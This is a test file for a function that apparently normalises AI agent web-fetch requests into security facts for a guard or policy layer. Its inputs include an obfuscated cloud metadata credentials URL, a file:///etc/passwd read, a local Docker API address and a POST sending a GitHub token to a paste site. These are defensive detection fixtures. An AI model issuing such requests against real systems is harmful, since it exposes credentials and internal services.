import { describe, expect, it } from 'vitest';
import { normalizeWebFetch } from './web-fetch.js';
import { GITHUB_TOKEN, ctx } from './test-context.js';

describe('normalizeWebFetch', () => {
  it('parses the URL and defaults the method to GET', () => {
    const facts = normalizeWebFetch({ url: 'http://0xa9fea9fe/latest/meta-data/iam/', prompt: 'summarize' }, ctx);
    expect(facts).toMatchObject({ kind: 'web_fetch', method: 'GET', url: { ip: '169.254.169.254', ip_kind: 'metadata', valid: true }, secrets: [] });
  });

  it('accepts the URL field names of other clients', () => {
    expect(normalizeWebFetch({ targetUrl: 'http://localhost:8080/' }, ctx).url).toMatchObject({ ip_kind: 'loopback', special_host: 'localhost' });
    expect(normalizeWebFetch({ uri: 'file:///etc/passwd' }, ctx).url).toMatchObject({ scheme: 'file', path: '/etc/passwd' });
  });

  it('adds https:// to a bare host, as fetch tools do', () => {
    expect(normalizeWebFetch({ url: 'example.com/docs' }, ctx).url).toMatchObject({ raw: 'example.com/docs', scheme: 'https', host: 'example.com', valid: true });
    expect(normalizeWebFetch({ url: '127.1:2375/containers/json' }, ctx).url).toMatchObject({ ip_kind: 'loopback', port: 2375 });
    expect(normalizeWebFetch({ url: '//example.com/x' }, ctx).url).toMatchObject({ raw: '//example.com/x', scheme: 'https', host: 'example.com' });
  });

  it('finds secrets in the URL, the headers and the body', () => {
    const facts = normalizeWebFetch(
      { url: 'https://paste.example.com/api', method: 'post', headers: { Authorization: `token ${GITHUB_TOKEN}` }, body: { key: GITHUB_TOKEN } },
      ctx,
    );
    expect(facts.method).toBe('POST');
    expect(facts.secrets.map((s) => s.type)).toEqual(['github_token', 'github_token']);
    const inUrl = normalizeWebFetch({ url: `https://x.example.com/?access_token=${GITHUB_TOKEN}` }, ctx);
    expect(inUrl.secrets.map((s) => s.type)).toEqual(['github_token']);
    expect(inUrl.url.secret_params).toEqual(['access_token']);
  });

  it('states a missing or unusable URL as invalid', () => {
    expect(normalizeWebFetch({}, ctx).url).toMatchObject({ raw: '', valid: false, ip_kind: null });
    expect(normalizeWebFetch({ url: 'not a url at all' }, ctx).url).toMatchObject({ raw: 'not a url at all', valid: false });
    expect(normalizeWebFetch({ url: 42 }, ctx).url.valid).toBe(false);
    expect(normalizeWebFetch(null, ctx).method).toBe('GET');
    expect(normalizeWebFetch({ url: 'https://example.com/' + 'a'.repeat(10 * 1024 * 1024) }, ctx).url.raw.length).toBe(65_536);
  });
});
